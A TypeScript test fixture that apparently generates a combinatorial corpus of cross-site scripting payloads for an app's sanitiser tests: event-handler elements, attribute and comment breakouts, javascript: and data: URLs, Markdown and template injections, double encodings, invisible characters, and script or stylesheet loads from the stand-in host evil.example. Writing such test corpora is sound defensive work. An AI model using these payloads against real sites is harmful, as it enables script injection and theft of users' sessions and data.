/**
 * The corpus: texts that would run, or fetch, or lead somewhere, if any page took them for more than text. Built from
 * its parts, so that what a part stands for is tried with every other: elements with events, the ways out of an
 * attribute or a comment, encodings that are undone once too often, addresses in every dress, Markdown, the brackets of
 * templates and of the app's own words, and signs nobody sees.
 */

/** Payloads that run. The page counts their calls; a dialog counts, too. */
const acts = ['rondoXss()', 'alert(1)', 'window.rondoXss`1`'];
/** The address that is fetched where text became an element. */
export const probe = '/rondo-xss-probe';
/** Nobody's host: no page ever asks it for anything. */
export const stranger = 'evil.example';

const elements = [
  `img src=${probe}`, 'svg', 'video src=1', 'audio src=1', 'body', 'details open', 'input autofocus', 'iframe src=about:blank',
  'object data=1', 'embed src=1', 'marquee', 'button autofocus', 'select autofocus', 'textarea autofocus', 'a href=# autofocus tabindex=1',
  'math', 'style', `link rel=stylesheet href=${probe}`, 'form', 'x-rondo tabindex=1 autofocus', 'dialog open', 'table background=1',
]; // prettier-ignore
const events = [
  'onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'onstart', 'onanimationstart', 'onpointerenter', 'onmouseover', 'onclick',
  'onloadstart', 'onscroll', 'onpageshow', 'oncanplay',
]; // prettier-ignore
/** Out of where the text might stand: an attribute, a comment, an element that holds text, a script. */
const hostChannels = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '`>',
  '"/>',
  '</option></select>',
];

const schemes = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;',
  '&#106;avascript:', 'javascript:javascript:', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4=,', 'blob:',
  `//${stranger}/`, `https://${stranger}/`, `\\\\${stranger}\\`, `https://rondo@${stranger}/`, 'file:///etc/passwd#', 'view-source:',
]; // prettier-ignore
const dresses = [
  (url: string) => url,
  (url: string) => `[here](${url})`,
  (url: string) => `![here](${url})`,
  (url: string) => `[![here](${url})](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `[here][1]\n\n[1]: ${url} "title"`,
  (url: string) => `[here](<${url}> "x\\" onmouseover=\\"rondoXss()")`,
  (url: string) => `<a href="${url}">here</a>`,
  (url: string) => `<iframe src='${url}'></iframe>`,
  (url: string) => `<form action="${url}"><button>here</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>here</text></a></svg>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<p style="background:url(${url})">here</p>`,
];

const whole = acts.flatMap((act) => [
  `<script>${act}</script>`,
  `<ScRiPt src=//${stranger}/x.js></sCrIpT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script type=module>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${act}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=${probe} onerror=${act}>`,
  `<noscript><p title="</noscript><img src=${probe} onerror=${act}>">`,
  `<template><img src=${probe} onerror=${act}></template>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<style>@import '//${stranger}/x.css'; * { background: url(${probe}) }</style>`,
  `<img src=${probe} srcset="${probe} 2x" onerror=${act}//`,
  `<img/src='${probe}'/onerror='${act}'/>`,
  `<!--><img src=${probe} onerror=${act}>-->`,
  `<![CDATA[<img src=${probe} onerror=${act}>]]>`,
  `<form id=rondo-backend><input name=content value='${act}'></form>`,
  `<img name=getElementById><img id=location src=${probe}>`,
  `" autofocus onfocus="${act}" x="`,
  `' style='animation-name:late' onanimationstart='${act}' x='`,
  `');${act};('`,
  `\\";${act};//`,
  `</script><script>${act}//`,
  `\u2028${act}\u2029`,
]);
const templates = acts.flatMap((act) => [
  `\${${act}}`, `{{${act}}}`, `{{constructor.constructor('${act}')()}}`, `#{${act}}`, `<%= ${act} %>`, `{%${act}%}`, `[[${act}]]`,
  `{{{${act}}}}`, `$t(${act})`, `$t(common:shell.bell, {"count": ${act}})`, '{{count}}', '$t(errors:tooManyCommands)', `%{${act}}`, '__proto__',
  'constructor.prototype', `{"dangerouslySetInnerHTML":{"__html":"<img src=${probe} onerror=${act}>"}}`, `{"$$typeof":"react.element"}`,
]); // prettier-ignore
const markdown = acts.flatMap((act) => [
  `\`\`\`html\n<img src=${probe} onerror=${act}>\n\`\`\``,
  `> <img src=${probe} onerror=${act}>`,
  `# <svg onload=${act}>`,
  `| a |\n| - |\n| <img src=${probe} onerror=${act}> |`,
  `[a](javascript:${act} "\`${act}\`")`,
  `<details open ontoggle=${act}><summary>x</summary></details>`,
  `***bold*** <b onmouseover=${act}>x</b> ~~y~~`,
  `[^1]\n\n[^1]: <img src=${probe} onerror=${act}>`,
  `- [ ] <input onfocus=${act} autofocus>`,
  `\\<img src=${probe} onerror=${act}\\>`,
  `&lt;img src=${probe} onerror=${act}&gt;`,
]);

/** As a text looks when somebody hopes that it is decoded once more than it was encoded. */
const encodings = [
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '&#60').replaceAll('>', '&#x3e;'),
  (text: string) => encodeURIComponent(text),
  (text: string) => encodeURIComponent(encodeURIComponent(text)),
  (text: string) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text: string) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text: string) => text.replaceAll('<', '＜').replaceAll('>', '＞').replaceAll('"', '＂'),
  (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text: string) => text.toUpperCase(),
  (text: string) => text.replaceAll('<', '<\u200b').replaceAll('on', 'o\u200dn'),
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => `\u2066${text}\u2069`,
  (text: string) => `\ufeff${Array.from(text).join('\u00ad')}`,
  (text: string) => text.replaceAll(' ', '\u00a0'),
  (text: string) => text.replaceAll(' ', '/'),
  (text: string) => text.replaceAll('<', '<\u0301\u0301\u0301'),
];

const actOf = (index: number) => acts[index % acts.length]!;
const withEvents = elements.flatMap((element, row) =>
  events.map((event, column) => `<${element} ${event}=${actOf(row + column)}>`),
);
const outOf = hostChannels.flatMap((way, row) =>
  withEvents.filter((_, at) => at % 11 === row % 11).map((text) => way + text),
);
const addresses = schemes.flatMap((scheme, row) =>
  dresses.map((dress, column) => dress(`${scheme}${actOf(row + column)}`)),
);
const encoded = encodings.flatMap((encode, row) => whole.filter((_, at) => at % 3 === row % 3).map(encode));

export const payloads: readonly string[] = [
  ...new Set([...withEvents, ...outOf, ...addresses, ...whole, ...templates, ...markdown, ...encoded]),
];
